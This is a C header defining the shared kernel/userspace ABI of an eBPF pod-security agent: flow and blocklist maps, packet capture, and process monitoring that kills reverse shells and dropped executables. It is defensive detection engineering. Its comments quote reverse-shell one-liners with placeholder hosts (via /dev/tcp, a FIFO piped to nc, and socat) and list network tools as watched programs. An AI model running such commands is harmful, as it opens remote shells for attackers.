/* podwall kernel/userspace ABI.
 *
 * The one definition of every map key and value, event record, counter
 * index, map name and attach constant that the BPF programs and the Swift
 * agent share. The BPF programs include it; Swift imports it as the
 * `PodwallABI` module; a test compares Swift's MemoryLayout with the BTF of
 * the compiled object, so a change here that breaks either side fails CI.
 *
 * Conventions: addresses are 16 bytes, IPv4 stored IPv4-mapped
 * (::ffff:a.b.c.d) so one key type serves both families and IPv4 entries
 * also match IPv4-mapped IPv6 traffic. Ports are host byte order. Times are
 * bpf_ktime_get_ns() (CLOCK_MONOTONIC) nanoseconds.
 */
#ifndef PODWALL_ABI_H
#define PODWALL_ABI_H

#include <linux/types.h>

/* Map names: the identifiers in bpf/lib/maps.h must spell the same
 * (a test looks each one up in the compiled object). */
#define PW_MAP_FLOWS_NAME	  "pw_flows"
#define PW_MAP_FRAGS_NAME	  "pw_frags"
#define PW_MAP_COUNTERS_NAME	  "pw_counters"
#define PW_MAP_EVENTS_NAME	  "pw_events"
#define PW_MAP_LINKS_NAME	  "pw_links"
#define PW_MAP_BLOCK_HOSTS_NAME	  "pw_block_hosts"
#define PW_MAP_BLOCK_NETS_NAME	  "pw_block_nets"
#define PW_MAP_ALLOW_NETS_NAME	  "pw_allow_nets"
#define PW_MAP_QUARANTINE_NAME	  "pw_quarantine"
#define PW_MAP_FEEDS_NAME	  "pw_feeds"
#define PW_MAP_DENY_LIMIT_NAME	  "pw_deny_limit"
#define PW_MAP_CONFIG_NAME	  "pw_config"
#define PW_MAP_CAPTURES_NAME	  "pw_captures"
#define PW_MAP_CAPTURE_RINGS_NAME "pw_capture_rings"
#define PW_MAP_CAPTURE_ON_NAME	  "pw_capture_on"
#define PW_MAP_CAPTURE_BUF_NAME	  "pw_capture_buf"
#define PW_MAP_CLOCK_NAME	  "pw_clock"

/* Default sizes; the agent overrides them from its config before load. */
#define PW_FLOWS_DEFAULT_ENTRIES 262144
#define PW_FRAGS_ENTRIES	 16384
#define PW_LINKS_ENTRIES	 4096
/* The flow events' ring (events.ring_bytes): about 33,800 flow events, a
 * quarter of a second of the agent's ceiling (BENCHMARKS.md), or 8 s of
 * two pods at their event budget while the agent is starved of CPU. */
#define PW_EVENTS_DEFAULT_BYTES (8 << 20)
/* Enforcement maps are plain hashes and LPM tries, never LRU: an entry
 * must never be evicted to make room. */
/* Preallocated (104 MiB of kernel memory, bpftool memlock): inserts take no allocation,
 * which makes loading a million-entry feed 2-3x faster and a full map
 * cost no more than a dynamically allocated one. */
#define PW_BLOCK_HOSTS_DEFAULT_ENTRIES 1048576
#define PW_BLOCK_NETS_DEFAULT_ENTRIES  1048576
#define PW_ALLOW_NETS_ENTRIES	       4096
#define PW_QUARANTINE_ENTRIES	       4096
#define PW_FEED_SLOTS		       63
#define PW_DENY_LIMIT_ENTRIES	       16384
/* At most one drop or deny event per flow (or process and destination)
 * per this interval; every dropped packet is still counted. */
#define PW_DROP_EVENT_INTERVAL_NS 1000000000ULL

/* Where podwall's TC filters sit in a clsact hook. A fixed handle and
 * priority let podwall replace its own filter atomically on upgrade and
 * remove exactly its own filter on uninstall. */
#define PW_TC_HANDLE   0x504457
#define PW_TC_PRIORITY 1

/* Program names (BPF names are at most 15 characters). */
#define PW_PROG_FROM_POD_NAME "pw_from_pod"
#define PW_PROG_TO_POD_NAME   "pw_to_pod"
#define PW_PROG_CONNECT4_NAME "pw_connect4"
#define PW_PROG_CONNECT6_NAME "pw_connect6"
#define PW_PROG_SENDMSG4_NAME "pw_sendmsg4"
#define PW_PROG_SENDMSG6_NAME "pw_sendmsg6"

/* Bytes of the first payload of each direction kept for protocol
 * classification. */
#define PW_PAYLOAD_SNAP 32

/* Walk at most this many IPv6 extension headers; a longer chain is counted
 * and the packet is judged on its addresses alone. */
#define PW_IPV6_MAX_EXT_HEADERS 8

enum pw_direction {
	/* Host-side veth TC ingress: the packet leaves the pod. */
	PW_DIR_FROM_POD = 0,
	/* Host-side veth TC egress: the packet enters the pod. */
	PW_DIR_TO_POD = 1,
	PW_DIR_COUNT = 2,
};

enum pw_family {
	PW_FAMILY_IPV4 = 4,
	PW_FAMILY_IPV6 = 6,
};

/* A flow as seen from the pod: the pod side and the remote side. */
struct pw_flow_key {
	__u8 pod_addr[16];
	__u8 remote_addr[16];
	__u32 ifindex;
	__u16 pod_port; /* ICMP echo: identifier; other ICMP: type<<8|code */
	__u16 remote_port;
	__u8 proto;  /* IPPROTO_* */
	__u8 family; /* enum pw_family */
	__u8 pad[2];
};

/* TCP flag bits as on the wire (byte 13 of the TCP header). */
enum pw_tcp_flag {
	PW_TCP_FIN = 0x01,
	PW_TCP_SYN = 0x02,
	PW_TCP_RST = 0x04,
	PW_TCP_PSH = 0x08,
	PW_TCP_ACK = 0x10,
	PW_TCP_URG = 0x20,
};

struct pw_flow_direction {
	__u64 packets;	   /* GSO segments counted one by one */
	__u64 bytes;	   /* L2 bytes */
	__u32 tcp_flags;   /* OR of enum pw_tcp_flag seen */
	__u32 payload_len; /* bytes valid in payload[] */
	/* TCP: where this direction's first payload starts, its SYN's sequence
	 * number + 1; valid once PW_FLOW_SYN_* of the direction is set. */
	__u32 payload_seq;
	__u32 pad;
	__u8 payload[PW_PAYLOAD_SNAP];
};

enum pw_flow_flag {
	PW_FLOW_POD_INITIATED = 1 << 0, /* first packet came from the pod */
	PW_FLOW_END_SENT = 1 << 1,
	PW_FLOW_PAYLOAD_FROM_POD = 1 << 2, /* payload[] of that direction claimed */
	PW_FLOW_PAYLOAD_TO_POD = 1 << 3,
	PW_FLOW_QUARANTINED = 1 << 4, /* opened while its pod was quarantined */
	PW_FLOW_REPLY_SENT = 1 << 5,
	PW_FLOW_SYN_FROM_POD = 1 << 6, /* payload_seq of that direction set */
	PW_FLOW_SYN_TO_POD = 1 << 7,
	/* Opened past its pod's event budget: counted in the pod's flow summary
	 * (pw_link), no event of its own (new, reply, payload, end, drop). */
	PW_FLOW_SUMMARIZED = 1 << 8,
};

struct pw_flow_value {
	__u64 first_seen_ns;
	__u64 last_seen_ns;
	__u32 flags; /* enum pw_flow_flag */
	/* The policy generation (pw_config) this flow was last checked against:
	 * while it is current, the flow's packets skip the blocklist lookups. */
	__u32 policy_generation;
	__u64 dropped_packets; /* blocked by the blocklist or quarantine */
	__u64 last_drop_event_ns;
	struct pw_flow_direction dir[PW_DIR_COUNT];
};

/* IPv4 and IPv6 fragments after the first carry no ports: the first
 * fragment records them here so later fragments join their flow. */
struct pw_frag_key {
	__u8 src[16];
	__u8 dst[16];
	__u32 id;
	__u8 proto;
	__u8 pad[3];
};

struct pw_frag_ports {
	__u16 sport;
	__u16 dport;
};

/* Interfaces podwall attached to, kept in a pinned map so that a restarted
 * agent and `podwall uninstall` know what podwall created. */
enum pw_link_flag {
	PW_LINK_QDISC_CREATED = 1 << 0, /* podwall created the clsact qdisc */
	PW_LINK_TCX = 1 << 1,		/* attached through pinned TCX links, not clsact */
};

enum pw_drop_reason {
	PW_DROP_NONE = 0,
	PW_DROP_BLOCKLIST = 1,
	PW_DROP_QUARANTINE = 2,
	PW_DROP_REASON_COUNT = 3,
};

/* A pod's new flows past its event budget, since `interval_start_ns`:
 * sent as one PW_EVENT_FLOW_SUMMARY every PW_FLOW_SUMMARY_INTERVAL_NS while
 * they go on. The distinct remote ports and hosts of the flows the pod
 * opened are 64-bit sketches (bit hash & 63 set): linear counting reads them
 * up to about 250 distinct. A pod flooded from outside has its inbound new
 * flows summarized too (its share of the ring is spent as well). */
struct pw_flow_summary {
	__u64 interval_start_ns; /* 0: nothing summarized since the last event */
	__u64 new_flows;
	__u64 pod_initiated; /* of them, opened by the pod */
	__u64 tcp_syns;	     /* of them, TCP opened by a SYN without ACK */
	__u64 replies;	     /* summarized flows that got an answer */
	__u64 drop_events;   /* drop events of summarized flows not sent */
	__u64 bytes;	     /* of the flows' first packets */
	__u64 remote_ports;
	__u64 remote_hosts;
};

#define PW_FLOW_SUMMARY_INTERVAL_NS 250000000ULL
/* Sized against the ring (PW_EVENTS_DEFAULT_BYTES): sixteen pods' bursts fit in it. */
#define PW_DEFAULT_POD_EVENTS_PER_SECOND 2000
#define PW_DEFAULT_POD_EVENT_BURST	 1000

struct pw_link {
	__u32 flags; /* enum pw_link_flag */
	__u32 pad;
	__u64 attached_ns;
	__u64 drops[PW_DROP_REASON_COUNT]; /* by enum pw_drop_reason */
	/* Every packet podwall's programs saw on the interface (non-IP and
	 * dropped ones too), by enum pw_direction: GSO segments one by one, L2
	 * bytes, as in pw_counters. Written by the programs with atomic adds;
	 * a metrics scrape reads these instead of walking the flow table. */
	__u64 packets[PW_DIR_COUNT];
	__u64 bytes[PW_DIR_COUNT];
	/* The pod's event budget (pw_config): a generic cell rate algorithm's
	 * theoretical arrival time of its next new-flow event. */
	__u64 event_tat_ns;
	struct pw_flow_summary summary;
	/* The interface's events lost because the ring was full (also in
	 * PW_CNT_RINGBUF_DROPS): which pods' events a full ring cost. */
	__u64 ring_drops;
};

/* Blocklist keys. Single addresses live in a hash, real prefixes in an LPM
 * trie (a random lookup costs ~167 ns in a 1M-entry hash, ~1.2 us in a
 * 1M-entry trie). IPv4 is IPv4-mapped, so a v4 prefix /n is /(96+n). */
struct pw_addr_key {
	__u8 addr[16];
};

struct pw_lpm_key {
	__u32 prefixlen; /* 0..128 in the mapped space */
	__u8 addr[16];
};

/* Bit 63 of `feeds`: listed by hand or by detection (may expire); bits
 * 0..62: the feed slots (pw_feeds) that list the entry. An address listed
 * by two feeds stays until both drop it. */
#define PW_BLOCK_DYNAMIC (1ULL << 63)

struct pw_block_entry {
	__u64 feeds;
	__u64 expires_ns; /* for a dynamic-only entry: 0 = never */
	__u64 hits;	  /* packets and calls denied */
};

struct pw_feed {
	char name[48];
	__u64 updated_ns; /* CLOCK_REALTIME of the last successful load */
	__u32 entries;
	__u32 in_use;
};

/* A quarantined pod interface: its new flows are dropped (except to
 * allowlisted destinations) until expiry (0 = until released). */
struct pw_quarantine {
	__u64 since_ns;
	__u64 expires_ns;
	__u64 drops;
};

/* Written by userspace only (one entry). Every blocklist or allowlist change
 * bumps policy_generation after the maps are written, so established flows
 * are checked again on their next packet. */
struct pw_config {
	__u32 policy_generation; /* starts at 1; 0 never matches a flow */
	/* Each pod's budget of new-flow events: at most this many a second
	 * (0: no budget), with bursts of `pod_event_burst` above the rate; past
	 * it a pod's new flows are summarized (struct pw_flow_summary), so that
	 * no pod takes the other pods' share of the ring. */
	__u32 pod_events_per_second;
	__u32 pod_event_burst;
	__u32 pad;
};

struct pw_deny_limit_key {
	__u32 tgid;
	__u16 port;
	__u16 pad;
	__u8 addr[16];
};

/* Per-CPU counters, indices into pw_counters. */
enum pw_counter {
	PW_CNT_PACKETS = 0,
	PW_CNT_BYTES,
	PW_CNT_NON_IP,
	PW_CNT_PARSE_ERRORS,
	PW_CNT_FRAGMENTS,
	PW_CNT_FRAGMENTS_UNTRACKED,
	PW_CNT_IPV6_EXT_LIMIT,
	PW_CNT_FLOWS_CREATED,
	PW_CNT_FLOW_INSERT_FAILURES,
	PW_CNT_RINGBUF_DROPS,
	PW_CNT_PULLS,
	PW_CNT_DROPS_BLOCKLIST,
	PW_CNT_DROPS_QUARANTINE,
	PW_CNT_ALLOWLIST_OVERRIDES,
	PW_CNT_SOCK_DENIED,
	PW_CNT_FLOWS_SUMMARIZED, /* new flows past their pod's event budget */
	PW_CNT_MAX,
};

/* Ring-buffer records. Every record starts with this header. */
enum pw_event_type {
	PW_EVENT_PACKET = 7, /* a captured packet (capture rings only) */
	PW_EVENT_FLOW_NEW = 1,
	PW_EVENT_FLOW_END = 2,
	PW_EVENT_FLOW_PAYLOAD = 3,
	PW_EVENT_DROP = 4,	   /* TC dropped a packet */
	PW_EVENT_DENY = 5,	   /* a cgroup hook refused connect() / sendmsg() */
	PW_EVENT_FLOW_REPLY = 6,   /* first answer to the flow's opener (not a bare RST) */
	PW_EVENT_CONNECT = 8,	   /* a pod's process called connect() (allowed) */
	PW_EVENT_FLOW_SUMMARY = 9, /* a pod's new flows past its event budget */
	PW_EVENT_FLOW_VOLUME = 10, /* a pod-opened flow sent another MiB from the pod */
};

/* Volume events (PW_EVENT_FLOW_VOLUME) go out each time the bytes a pod sent
 * on a flow it opened cross a multiple of this: exfiltration is judged as the
 * bytes go, not only when the agent next reads the flow table, which takes
 * ~150 ms at 262,144 flows. At most one event per MiB a pod sends. Not sent
 * by the compat build (Linux < 5.12, lib/compat.h). */
#define PW_VOLUME_STEP_SHIFT 20

enum pw_end_reason {
	PW_END_NONE = 0,
	PW_END_FIN = 1,
	PW_END_RST = 2,
	PW_END_IDLE = 3, /* reported by the agent's sweeper, not the kernel */
};

struct pw_event_header {
	__u16 type; /* enum pw_event_type */
	__u16 size; /* whole record, bytes */
	__u32 pad;
	__u64 timestamp_ns;
};

/* New flow, first reply, flow end, the first payload of a direction, or a
 * volume step: one record type carrying the flow's state at that packet. Each
 * kind but volume is sent at most once per flow (flags in pw_flow_value),
 * which is the per-flow rate limit; volume is limited by the bytes sent. */
struct pw_flow_event {
	struct pw_event_header header;
	struct pw_flow_key key;
	__u8 direction;	 /* enum pw_direction of the deciding packet */
	__u8 end_reason; /* enum pw_end_reason */
	__u8 pad[10];	 /* value starts 8-aligned, no hidden padding */
	struct pw_flow_value value;
};

/* A packet dropped at TC, or a socket call denied in the pod's cgroup (then
 * the process fields are set and `direction` is PW_DIR_FROM_POD). */
struct pw_drop_event {
	struct pw_event_header header;
	struct pw_flow_key key;
	__u8 direction; /* enum pw_direction */
	__u8 reason;	/* enum pw_drop_reason */
	__u8 pad[2];
	__u32 matched_prefixlen; /* mapped space, 0..128; 0 for quarantine */
	__u32 uid;
	__u8 matched_addr[16];
	__u64 pid_tgid;
	__u64 cgroup_id;
	char comm[16];
};

struct pw_flow_summary_event {
	struct pw_event_header header; /* PW_EVENT_FLOW_SUMMARY */
	__u32 ifindex;
	__u32 pad;
	struct pw_flow_summary summary; /* interval_start_ns to the header's timestamp */
};

/* A connect() a pod's process made, allowed by the cgroup hook: ties the
 * flow it opens to the process (the hook runs before the local port is
 * bound, so the key has the remote side only). At most one per process and
 * destination per PW_DROP_EVENT_INTERVAL_NS. */
#define PW_MAP_CONNECT_LIMIT_NAME "pw_connect_limit"
#define PW_CONNECT_LIMIT_ENTRIES  16384

struct pw_connect_event {
	struct pw_event_header header; /* PW_EVENT_CONNECT */
	struct pw_flow_key key;	       /* remote_addr, remote_port, proto, family */
	__u64 pid_tgid;
	__u64 cgroup_id;
	__u32 uid;
	__u32 pad;
	char comm[16];
};

/* Packet capture. Up to PW_CAPTURE_SLOTS captures run at once; each has a
 * filter and counters in pw_captures[slot] and its own ring buffer in
 * pw_capture_rings[slot], so a flood into one capture can neither starve
 * another nor the flow events. pw_capture_on holds the bitmask of live slots:
 * with no capture running, a packet pays one array lookup. */
#define PW_CAPTURE_SLOTS	   32
#define PW_CAPTURE_DEFAULT_SNAPLEN 256
/* The per-CPU staging buffer is at most 32 KiB: a record header and this
 * many bytes, which holds any Ethernet or jumbo frame; longer GSO packets are
 * cut here and keep their original length. */
#define PW_CAPTURE_MAX_SNAPLEN 32704
#define PW_CAPTURE_RING_BYTES  (4 << 20)

/* Addresses are compared masked: (addr & mask) == net; an all-zero mask
 * matches any address. Zero ports, protocol or ifindex match anything. */
struct pw_capture_filter {
	__u8 pod_net[16];
	__u8 pod_mask[16];
	__u8 remote_net[16];
	__u8 remote_mask[16];
	__u32 ifindex;
	__u16 pod_port;
	__u16 remote_port;
	__u8 proto;
	__u8 pad[7];
};

struct pw_capture {
	struct pw_capture_filter filter;
	__u64 id;	   /* the owner's capture id, stamped into records */
	__u64 expires_ns;  /* CLOCK_MONOTONIC; 0 = never */
	__u64 max_packets; /* packet budget; 0 = unlimited */
	__u32 snaplen;	   /* 1..PW_CAPTURE_MAX_SNAPLEN */
	__u32 owner_pid;   /* lets a new owner reclaim a dead one's slot */
	/* Written by the programs with atomic adds; every matched packet ends in
	 * exactly one of captured, skipped or lost. */
	__u64 matched;
	__u64 captured;
	__u64 captured_bytes;
	__u64 skipped; /* matched after the budget ran out or the capture expired */
	__u64 lost;    /* not delivered: its ring was full (or the bytes unreadable) */
};

struct pw_capture_on {
	__u32 slots; /* bit n: pw_captures[n] is live */
	__u32 pad;
};

/* One captured packet; cap_len bytes of the frame follow the record. */
struct pw_packet_record {
	struct pw_event_header header; /* PW_EVENT_PACKET, precise timestamp */
	__u64 capture_id;
	__u32 ifindex;
	__u32 orig_len;
	__u32 cap_len;
	__u8 direction; /* enum pw_direction */
	__u8 pad[3];
};

/* ---------------------------------------------------------------------------
 * Process pillar (process.bpf.c): exec, fork and exit of processes in pods.
 * Its maps are its own, so the network data path's pins are unchanged.
 * ------------------------------------------------------------------------- */
#define PW_MAP_PROCESS_EVENTS_NAME   "pw_proc_events"
#define PW_MAP_PROCESS_CONFIG_NAME   "pw_proc_config"
#define PW_MAP_PROCESS_COUNTERS_NAME "pw_proc_counters"
#define PW_MAP_EXEC_NAMES_NAME	     "pw_exec_names"

#define PW_PROG_EXEC_NAME    "pw_exec"
#define PW_PROG_FORK_NAME    "pw_fork"
#define PW_PROG_EXIT_NAME    "pw_exit"
#define PW_PROG_DUP2_NAME    "pw_dup2"
#define PW_PROG_DUP3_NAME    "pw_dup3"
#define PW_PROG_CONNECT_NAME "pw_connect_relay"

#define PW_PROCESS_EVENTS_DEFAULT_BYTES (4 << 20)
/* Events that need no judgement now (forks, exits, ordinary execs) do not
 * wake the agent, which polls this often; a ring this full wakes it. */
#define PW_PROCESS_POLL_MS	10
#define PW_PROCESS_WAKEUP_BYTES (64 << 10)
/* Past that mark a CPU wakes the agent at most this often. */
#define PW_PROCESS_WAKEUP_INTERVAL_NS 1000000ULL
#define PW_EXEC_NAMES_ENTRIES	      1024
/* Bounded copies: the binary as exec'd, the interpreter of a script, and
 * the first bytes of the arguments (NUL-separated, as in /proc/PID/cmdline). */
#define PW_EXEC_PATH_BYTES 256
#define PW_EXEC_ARGS_BYTES 384
#define PW_STDIO_FDS	   3

/* What the agent tells the programs (one entry). Processes are watched when
 * their cgroup descends from the pods' cgroup (kubepods.slice), which costs
 * a host process one array lookup and a few CO-RE reads of its cgroup ancestry. */
enum pw_process_policy {
	/* SIGKILL a shell exec'd with an inet socket on 0-2 or made one of them
	 * with dup2/dup3, and a relayed shell (see PW_RELAY_WINDOW_NS). */
	PW_POLICY_KILL_REVERSE_SHELL = 1 << 0,
	PW_POLICY_KILL_DENIED = 1 << 1, /* SIGKILL an exec whose name is PW_EXEC_DENIED */
	/* SIGKILL a breakout attempt at its syscall (PW_EVENT_BREAKOUT, and a
	 * file event whose rule has PW_FILE_RULE_BREAKOUT). */
	PW_POLICY_KILL_BREAKOUT = 1 << 2,
	/* SIGKILL at exec a fileless program (memfd, deleted) and one a pod
	 * wrote in a PW_FILE_RULE_NO_EXEC directory (/tmp, /dev/shm). */
	PW_POLICY_KILL_DROPPED_EXEC = 1 << 3,
	/* The file and breakout programs report (else they return at once). */
	PW_POLICY_WATCH_FILES = 1 << 4,
};

struct pw_process_config {
	__u64 pods_cgroup_id;	 /* 0: no pods' cgroup, nothing is watched */
	__u32 pods_cgroup_level; /* its depth below the cgroup v2 root (root = 0) */
	__u32 policy;		 /* enum pw_process_policy */
	/* The node's mount namespace (inode of /proc/1/ns/mnt; 0: unknown): a
	 * pod's process exec'ing or setting up there, not having exec'd in the
	 * pod, is the runtime starting a container's init (runc execs itself
	 * and bind-mounts its binary inside the cgroup on cgroup v2 nodes), not
	 * a program of the pod. */
	__u32 host_mnt_ns;
	/* The agent's own (inode of /proc/self/ns/mnt): where the runtime runs
	 * when the node's pid 1 is not in the node's (a test VM's init, a
	 * sandbox); an agent in a pod of its own trusts that pod's execs. */
	__u32 agent_mnt_ns;
};

/* What a program name (task comm after exec, i.e. the binary's basename,
 * 15 characters at most) is to the in-kernel exec policy. */
enum pw_exec_class {
	PW_EXEC_SHELL = 1 << 0,	       /* a shell or interpreter (sh, bash, python, ...) */
	PW_EXEC_NETWORK_TOOL = 1 << 1, /* nc, socat, curl, ... */
	PW_EXEC_DENIED = 1 << 2,       /* never allowed in a pod */
	/* A container runtime's init (runc:[2:INIT]) setting up a container:
	 * its namespace and mount calls are not a breakout while it has not
	 * exec'd a program in the container's mount namespace
	 * (PW_POD_PROGRAMS_ENTRIES). */
	PW_EXEC_RUNTIME = 1 << 3,
};

/* Kernel-internal: whether a cgroup (by id) is in the pods' cgroup, as
 * found for the pods' cgroup `pods_cgroup_id`: the current task's cgroup id
 * is one helper call, its ancestry six kernel reads. A cgroup's ancestry
 * never changes and ids are not reused. */
struct pw_cgroup_verdict {
	__u64 pods_cgroup_id;
	__u32 watched;
	__u32 pad;
};
#define PW_CGROUP_VERDICTS_ENTRIES 16384

/* Processes that exec'd in a pod, or descend from one that did (by tgid,
 * with their start): a runtime's name is trusted only on a process not in it. */
#define PW_POD_PROGRAMS_ENTRIES 65536

struct pw_exec_name_key {
	char comm[16];
};

enum pw_process_counter {
	PW_PCNT_EXECS = 0, /* execs in pods, events sent or not */
	PW_PCNT_FORKS,
	PW_PCNT_EXITS,
	PW_PCNT_RINGBUF_DROPS, /* events lost: the process ring was full */
	PW_PCNT_KILLS,	       /* SIGKILLs sent (at exec, dup2/dup3, a relay's connect) */
	PW_PCNT_READ_ERRORS,   /* a field could not be read (left empty, flagged) */
	PW_PCNT_FILE_EVENTS,   /* file operations on watched paths (or unresolved), events sent or not */
	PW_PCNT_BREAKOUTS,     /* breakout syscalls from pods, events sent or not */
	PW_PCNT_MAX,
};

enum pw_process_event_type {
	PW_EVENT_EXEC = 16,
	PW_EVENT_FORK = 17,
	PW_EVENT_EXIT = 18,
	PW_EVENT_STDIO_SOCKET = 19,  /* a socket dup'ed onto fd 0-2 of a running shell */
	PW_EVENT_RELAY_CONNECT = 20, /* a process sharing a pipe with a relayed shell connected out */
};

/* What a file descriptor is. */
enum pw_fd_kind {
	PW_FD_NONE = 0,	  /* not open */
	PW_FD_FILE = 1,	  /* regular file or directory */
	PW_FD_PIPE = 2,	  /* pipe or FIFO; `inode` names it, both ends share it */
	PW_FD_SOCKET = 3, /* see family/protocol and the addresses */
	PW_FD_TTY = 4,	  /* terminal: a pty, a console or /dev/tty* */
	PW_FD_CHAR = 5,	  /* another character device (/dev/null, ...) */
	PW_FD_OTHER = 6,  /* anon inode, eventfd, ... */
};

/* One of fds 0-2 at exec. For an inet socket the addresses are the
 * socket's (IPv4 mapped into IPv6); for a unix socket `peer_inode` is the
 * other end's inode. */
struct pw_stdio_fd {
	__u8 kind;	/* enum pw_fd_kind */
	__u8 family;	/* AF_* of a socket */
	__u8 protocol;	/* IPPROTO_* of an inet socket */
	__u8 sock_type; /* SOCK_* */
	__u16 local_port;
	__u16 remote_port;
	__u64 inode;
	__u64 peer_inode;
	__u8 local_addr[16];
	__u8 remote_addr[16];
};

enum pw_exec_flag {
	PW_EXEC_KILLED = 1 << 0, /* the program sent SIGKILL at exec */
	PW_EXEC_ARGS_TRUNCATED = 1 << 1,
	PW_EXEC_READ_ERROR = 1 << 2,  /* some field could not be read */
	PW_EXEC_STDIO_INET = 1 << 3,  /* an inet socket is on fd 0, 1 or 2 */
	PW_EXEC_RELAYED = 1 << 4,     /* a relayed shell (PW_RELAY_WINDOW_NS) */
	PW_EXEC_FILELESS = 1 << 5,    /* the binary has no name left: a memfd or a deleted file */
	PW_EXEC_DROPPED = 1 << 6,     /* a pod's process wrote the binary (`written` says when) */
	PW_EXEC_NO_EXEC_DIR = 1 << 7, /* ... in a PW_FILE_RULE_NO_EXEC directory */
};

/* A relayed shell: a shell or interpreter that reads its commands from its
 * stdin (no -c, -e, ... and no script argument), where stdin is a pipe, pty
 * or unix socket, and a process of its pod holds a TCP connection to a
 * non-loopback address it opened within this window of the shell's exec:
 * the shell's parent (python's pty relay, socat's socketpair), or a process
 * on the other side of a pipe of the shell's stdio (mkfifo + nc). Decided at whichever
 * comes second: the shell's exec (the shell is killed) or the relay's
 * connect() (the relay is killed, before its connection exists). */
#define PW_RELAY_WINDOW_NS	  (30ULL * 1000000000ULL)
#define PW_RELAY_CONNECTS_ENTRIES 16384
#define PW_RELAY_PIPES_ENTRIES	  16384

/* A TCP connect() to a non-loopback address by a pod's process: the value
 * of the kernel's table of recent ones (by tgid), and what an exec event
 * of a relayed shell says of its relay. */
struct pw_relay_connection {
	__u64 connect_ns; /* 0: none */
	__u64 start_ns;	  /* the process's start: a reused tgid is not it */
	__u32 tgid;
	__u16 remote_port;
	__u8 pad[2];
	__u8 remote_addr[16]; /* IPv4 mapped into IPv6 */
	char comm[16];
};

/* Kernel-internal (never read by the agent): a pipe (shared by both ends
 * and by a FIFO's openers) on the stdio of a
 * stdin-reading shell or of a process that connected out; "reads" when it
 * is the process's fd 0, "writes" as fd 1 or 2. A relay and its shell are on
 * opposite sides (the relay reads what the shell writes, or the reverse):
 * processes that merely share a container's log pipe as stdout are not. */
/* A stdin-reading shell a process started (by the parent's tgid): a
 * network tool that connects out within the window after starting it is its
 * relay (`socat exec:'sh -i',pty tcp:H:P` starts the shell first). */
struct pw_relay_shell {
	__u64 exec_ns;
	__u64 parent_start_ns; /* the parent's start: a reused tgid is not it */
	__u32 tgid;
	__u32 pad;
};

/* A file by its inode and file system: a pipe or FIFO (pipes' inode
 * numbers are not reused soon; the kernel's pipe object would be, at once),
 * or a file a pod wrote. */
struct pw_inode_key {
	__u64 inode;
	__u32 dev; /* the inode's file system (pipefs, or a FIFO's) */
	__u32 pad;
};

struct pw_relay_pipe {
	__u64 shell_reads_ns; /* when a stdin-reading shell had it as fd 0 */
	__u64 shell_writes_ns;
	__u64 relay_reads_ns; /* when a process with it as fd 0 connected out */
	__u64 relay_writes_ns;
	__u32 shell_tgid;
	__u32 relay_tgid;
};

/* A regular file a pod's process opened for writing since podwall
 * watched it (kernel table by inode; an exec of it is a drop-and-execute). */
struct pw_written_file {
	__u64 written_ns; /* 0: none */
	__u32 tgid;	  /* the writer (host tgid) */
	__u32 pad;
	__u64 cgroup_id; /* the writer's cgroup */
	char comm[16];
};
#define PW_WRITTEN_FILES_ENTRIES 65536

/* A `#!` script a pod's process exec'd, until the interpreter opens it (by
 * tgid): at the exec tracepoint the kernel has already let the script's
 * file go, so whether a pod wrote it is judged at that open. */
struct pw_script_exec {
	__u64 start_ns; /* the process's start: a reused tgid is another process */
	char name[32];	/* the script's last path component (as pw_file_name_key) */
};
#define PW_SCRIPT_EXECS_ENTRIES 4096

/* Process identity as every process event carries it. */
struct pw_process_id {
	__u32 pid;	 /* host tid of the thread */
	__u32 tgid;	 /* host process id */
	__u32 ns_pid;	 /* process id in its own pid namespace */
	__u32 ppid;	 /* host tgid of the real parent */
	__u64 cgroup_id; /* cgroup v2 id of its (container's) cgroup */
	__u64 start_ns;	 /* task start, CLOCK_MONOTONIC */
};

struct pw_exec_event {
	struct pw_event_header header; /* PW_EVENT_EXEC, at the exec */
	struct pw_process_id process;
	__u32 uid;
	__u32 euid;
	__u32 flags;	  /* enum pw_exec_flag */
	__u32 exec_class; /* enum pw_exec_class of the new name, 0 if none */
	__u16 args_len;	  /* bytes valid in args[] */
	__u8 pad[6];
	char comm[16];
	struct pw_stdio_fd stdio[PW_STDIO_FDS];
	char filename[PW_EXEC_PATH_BYTES];    /* as given to execve */
	char interpreter[PW_EXEC_PATH_BYTES]; /* the script's interpreter, or the filename */
	__u8 args[PW_EXEC_ARGS_BYTES];
	struct pw_relay_connection relay; /* PW_EXEC_RELAYED: the relay's connection */
	struct pw_written_file written;	  /* PW_EXEC_DROPPED: who wrote the binary */
};

/* A shell made an inet socket its fd 0, 1 or 2 with dup2/dup3 (`exec 0<&5`
 * after `exec 5<>/dev/tcp/H/P`): a reverse shell with no exec to see. */
struct pw_stdio_socket_event {
	struct pw_event_header header; /* PW_EVENT_STDIO_SOCKET, at the syscall's exit */
	struct pw_process_id process;
	__u32 fd;    /* 0, 1 or 2 */
	__u32 flags; /* PW_EXEC_KILLED */
	__u32 exec_class;
	__u32 uid;
	char comm[16];
	struct pw_stdio_fd socket;
};

/* A process with a pipe of a relayed shell's stdio on its own stdio
 * called connect() to a non-loopback TCP address (`cat /tmp/f | sh -i |
 * nc H P > /tmp/f`): it is the shell's relay, killed at the syscall's entry
 * when the reverse-shell switch is on, before its connection exists. */
struct pw_relay_connect_event {
	struct pw_event_header header; /* PW_EVENT_RELAY_CONNECT, at connect()'s entry */
	struct pw_process_id process;  /* the relay */
	struct pw_relay_connection connection;
	__u32 shell_tgid; /* the shell it would relay */
	__u32 flags;	  /* PW_EXEC_KILLED: the relay was killed */
	__u32 uid;
	__u32 pad;
};

/* A new process (not a thread), or a process's end. */
struct pw_fork_event {
	struct pw_event_header header; /* PW_EVENT_FORK */
	struct pw_process_id process;  /* the child */
	char comm[16];
};

struct pw_exit_event {
	struct pw_event_header header; /* PW_EVENT_EXIT */
	struct pw_process_id process;
	__u32 exit_code; /* as wait(2) reports it */
	__u32 pad;
	char comm[16];
};

/* ---- File and breakout pillar (bpf/file.bpf.c, lib/file*.h, lib/breakout.h) ----
 * Syscall tracepoints, in the pods' cgroups only, on the process ring. An
 * opened file is judged at the open's exit by the path the kernel resolved
 * (symlinks, "..", relative names and directory fds cannot hide it); other
 * path syscalls (unlink, rename, chmod, ...) at their entry, by the name
 * given, made absolute against the cwd or directory fd. Paths are container
 * paths (as the process's root sees them). A path is judged by the longest
 * rule of the agent's prefix table that it starts with; an unwatched open
 * costs a name lookup (read) or a path walk and a prefix lookup (write),
 * and no event. */
#define PW_MAP_FILE_RULES_NAME	  "pw_file_rules"
#define PW_MAP_FILE_NAMES_NAME	  "pw_file_names"
